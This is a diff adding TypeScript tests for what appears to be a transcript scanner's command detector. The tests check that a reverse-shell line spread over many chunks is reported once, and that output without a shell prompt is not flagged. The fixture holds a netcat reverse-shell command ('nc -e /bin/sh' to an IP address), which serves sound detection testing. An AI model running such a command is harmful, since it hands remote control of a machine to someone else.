@@ -373,3 +373,37 @@ describe('work caps', () => {
     expect(byRule(r.findings, 'secret-aws-access-key')?.count).toBe(Math.ceil(40_000 / 997));
   });
 });
+
+describe('a command line longer than the carry-over bound', () => {
+  /** One command line of `pad` characters then `end`, cut into 32 000-byte events, one delivery each. */
+  async function deliver(prompt: string, pad: number, end: string): Promise<Finding[]> {
+    const text = `${prompt}${'a'.repeat(pad)}${end}\n`;
+    const carry = new MemoryCarryOverStore<TranscriptCarry>();
+    const detectors = [createCommandDetector()];
+    const found = new Map<string, Finding>();
+    const pieces: string[] = [];
+    for (let at = 0; at < text.length; at += 32_000) pieces.push(text.slice(at, at + 32_000));
+    for (const [i, piece] of pieces.entries()) {
+      const r = await scanTranscript(
+        {
+          sessionId: 'long-0123456789abcdef0',
+          origin: 't',
+          events: [{ id: `e${i}`, time: '', text: piece }],
+        },
+        { config: DEFAULT_CONFIG, carry, pii: undefined },
+        detectors,
+      );
+      for (const f of r.findings) found.set(f.id, f);
+    }
+    return [...found.values()];
+  }
+
+  it('is scanned in pieces and its end is still read as the same command, reported once', async () => {
+    const findings = await deliver('sh-5.2$ ', 300_000, ' ; nc -e /bin/sh 203.0.113.9 4444');
+    expect(findings.map((f) => [f.ruleId, f.count ?? 1])).toEqual([['cmd-reverse-shell', 1]]);
+  });
+
+  it('keeps output as output: a long line without a prompt starts no command', async () => {
+    expect(await deliver('', 300_000, ' ; nc -e /bin/sh 203.0.113.9 4444')).toEqual([]);
+  });
+});
